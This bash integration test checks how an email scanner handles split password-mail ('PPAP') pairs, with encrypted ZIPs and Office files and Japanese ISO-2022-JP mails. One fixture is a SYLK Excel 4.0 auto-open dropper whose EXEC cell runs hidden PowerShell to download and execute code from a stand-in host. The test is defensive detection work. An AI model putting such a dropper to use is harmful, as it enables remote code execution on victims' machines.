#!/usr/bin/env bash
# `emogate scan --ppap-window` on generated PPAP pairs: mail 1 carries an
# AES-256 ZIP (7-Zip) and no password, mail 2 (ISO-2022-JP, 「パスワード通知」)
# gives the password under the archive's name. A macro-free .docx inside is
# released clean (exit 0); an Excel 4.0 macro dropper (SYLK, auto-open EXEC)
# inside comes out malicious (exit 1); a password mail from another sender,
# or one after the window, unlocks nothing.
# The same for encrypted Office documents (tests/integration/lib/ppap_mail.sh):
# a macro-free workbook as an .xlsx with agile encryption (spinCount 100,000)
# and as a .docx with standard encryption, made by the test tool
# emogate_office_encrypt (tests/tools), is released clean with
# archive_decrypted naming the password mail; another sender's password
# mail, or a wrong password, unlocks nothing.
set -euo pipefail
command -v 7z >/dev/null || { echo "7z (p7zip-full) not installed"; exit 77; }
bin="${EMOGATE_BIN:?}"
here="$(cd "$(dirname "$0")" && pwd)"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
cd "$work"
# Default isolation: every scan and rescan runs in a worker process, so the
# report's PPAP facts and the extra password cross the worker wire.
cat > cfg.toml <<'TOML'
[rules]
paths = []
TOML
python3 - <<'PY'
import zipfile
with zipfile.ZipFile("見積書.docx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    z.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>見積書</w:t></w:r></w:p></w:body></w:document>')
PY
printf 'ID;P\r\nC;X1;Y1;EEXEC("cmd /c powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString(\x27http://dl.example/p\x27)")\r\nC;X1;Y2;EHALT()\r\nNN;NAuto_open;ER1C1\r\nE\r\n' > 請求書.slk
7z a -tzip -mem=AES256 -pXk7pQ2mZ good.zip 見積書.docx >/dev/null
7z a -tzip -mem=AES256 -pXk7pQ2mZ bad.zip 請求書.slk >/dev/null

mail1() {  # $1 = zip
  printf 'From: Tanaka <tanaka@sender.example.jp>\r\nTo: suzuki@rcpt.example.jp\r\n'
  printf 'Subject: =?UTF-8?B?%s?=\r\nDate: Fri, 04 Dec 2026 05:00:00 +0000\r\nMIME-Version: 1.0\r\n' "$(printf 'お見積書の送付' | base64)"
  printf 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n\r\n'
  printf 'お見積書を送付いたします。\nパスワードは別途お送りします。\n' | iconv -f UTF-8 -t ISO-2022-JP
  printf '\r\n--b1\r\nContent-Type: application/zip; name="mitsumori.zip"\r\n'
  printf 'Content-Disposition: attachment; filename="mitsumori.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
  base64 "$1"
  printf '\r\n--b1--\r\n'
}
mail2() {  # $1 = From address, $2 = Date
  printf 'From: Tanaka <%s>\r\nTo: suzuki@rcpt.example.jp, other@rcpt.example.jp\r\n' "$1"
  printf 'Subject: =?UTF-8?B?%s?=\r\nDate: %s\r\nMIME-Version: 1.0\r\n' "$(printf '【パスワード通知】お見積書の送付' | base64)" "$2"
  printf 'Content-Type: text/plain; charset=ISO-2022-JP\r\n\r\n'
  printf '先ほどお送りしたファイルのパスワードをお知らせします。\n\nmitsumori.zip\nXk7pQ2mZ\n\nよろしくお願いいたします。\n' |
    iconv -f UTF-8 -t ISO-2022-JP
}
mail1 good.zip > a_good.eml
mail1 bad.zip > a_bad.eml
mail2 tanaka@sender.example.jp "Fri, 04 Dec 2026 05:05:00 +0000" > b.eml
mail2 attacker@evil.example "Fri, 04 Dec 2026 05:05:00 +0000" > b_other.eml
mail2 tanaka@sender.example.jp "Fri, 04 Dec 2026 06:05:00 +0000" > b_late.eml

fail() { echo "FAIL: $1"; shift; cat "$@"; exit 1; }
run() {  # $1 = expected exit, $2 = output file, rest = scan arguments
  local want="$1" out="$2" rc=0
  shift 2
  "$bin" scan --config cfg.toml "$@" > "$out" 2> "$out.err" || rc=$?
  [[ "$rc" == "$want" ]] || fail "exit $rc, expected $want for $*" "$out" "$out.err"
}

run 0 good.txt --ppap-window 30m a_good.eml b.eml
grep -q 'ppap: awaiting a password mail for 1 archive' good.txt || fail "not held" good.txt
grep -q 'ppap: password mail for \["a_good.eml"\]' good.txt || fail "password mail not recognised" good.txt
grep -q 'a_good.eml: clean' good.txt || fail "not clean after the password" good.txt
grep -q 'from password mail b.eml: text/plain part 1, line 4' good.txt || fail "source missing" good.txt
grep -q 'Xk7pQ2mZ' good.txt && fail "clear-text password in the output" good.txt

run 1 bad.json --json --ppap-window 30m a_bad.eml b.eml
python3 - bad.json <<'PY' || exit 1
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
states = [(l["input"], l.get("ppap", {}).get("state"), l["verdict"]) for l in lines]
want = [("a_bad.eml", "awaiting_password", "suspicious"), ("b.eml", "password_mail", "clean"),
        ("a_bad.eml", "flagged", "malicious")]
if states != want:
    sys.exit("FAIL: states %r, expected %r" % (states, want))
last = lines[-1]
types = {f["type"] for f in last["findings"]}
if not {"xlm_macro", "archive_decrypted"} <= types:
    sys.exit("FAIL: rescan findings %r" % types)
if last["ppap"]["password_mail"] != "b.eml" or not last["ppap"]["password_sources"][0].startswith("password mail b.eml: "):
    sys.exit("FAIL: rescan ppap %r" % last["ppap"])
if lines[0]["locked"] != [{"archive": "mitsumori.zip", "member": "請求書.slk", "checkable": True}]:
    sys.exit("FAIL: locked %r" % lines[0]["locked"])
PY

run 1 other.txt --ppap-window 30m a_good.eml b_other.eml
grep -q 'ppap: no password mail among the inputs' other.txt || fail "another sender's password unlocked it" other.txt
grep -q 'released' other.txt && fail "another sender's password released it" other.txt

run 1 late.txt --ppap-window 30m a_good.eml b_late.eml
grep -q 'ppap: no password mail within the window; on_timeout = keep' late.txt || fail "no timeout" late.txt
run 0 wide.txt --ppap-window 2h a_good.eml b_late.eml

run 2 bad_window.txt --ppap-window 30x a_good.eml
grep -q 'ppap-window wants a duration' bad_window.txt.err || fail "bad duration accepted" bad_window.txt.err

# --- encrypted Office documents
. "$here/../integration/lib/ppap_mail.sh"
[[ -x "$PPAP_OFFICE_ENCRYPT" ]] || { echo "emogate_office_encrypt (tests/tools) not built"; exit 77; }
FROM=tanaka@sender.example.jp
TO=suzuki@rcpt.example.jp
ppap_office_pair . x "$FROM" "$TO" Hq4-mT9zK agile xlsx
ppap_office_pair . d "$FROM" "$TO" Hq4-mT9zK standard docx
ppap_office_pair . other attacker@evil.example "$TO" Hq4-mT9zK
ppap_office_pair . wrong "$FROM" "$TO" Hq4-mT9zX

for held in x-xlsx d-docx; do
  run 0 "$held.json" --json --ppap-window 30m "$held.eml" "${held%%-*}-pw.eml"
  python3 - "$held.json" "$held.eml" "${held%%-*}-pw.eml" "mitsumori-${held/-/.}" <<'PY' || exit 1
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
held, pw, name = sys.argv[2], sys.argv[3], sys.argv[4]
states = [(l["input"], l.get("ppap", {}).get("state"), l["verdict"]) for l in lines]
want = [(held, "awaiting_password", "suspicious"), (pw, "password_mail", "clean"), (held, "released", "clean")]
if states != want:
    sys.exit("FAIL: states %r, expected %r" % (states, want))
if [f["type"] for f in lines[0]["findings"]] != ["encrypted_document"]:
    sys.exit("FAIL: mail 1 findings %r" % lines[0]["findings"])
if lines[0]["locked"] != [{"archive": name, "member": "EncryptedPackage", "checkable": True}]:
    sys.exit("FAIL: locked %r" % lines[0]["locked"])
dec = [f for f in lines[-1]["findings"] if f["type"] == "archive_decrypted"]
if len(dec) != 1 or dec[0]["path"] != name or ("from password mail %s: text/plain part 1" % pw) not in dec[0]["detail"]:
    sys.exit("FAIL: rescan findings %r" % lines[-1]["findings"])
if "Hq4-mT9zK" in open(sys.argv[1], encoding="utf-8").read():
    sys.exit("FAIL: clear-text password in the output")
PY
done

run 1 other.txt --ppap-window 30m x-xlsx.eml other-pw.eml
grep -q 'ppap: no password mail among the inputs' other.txt || fail "another sender's password unlocked it" other.txt
run 1 wrong.txt --ppap-window 30m x-xlsx.eml wrong-pw.eml
grep -q 'ppap: no password mail among the inputs' wrong.txt || fail "a wrong password unlocked it" wrong.txt
echo OK
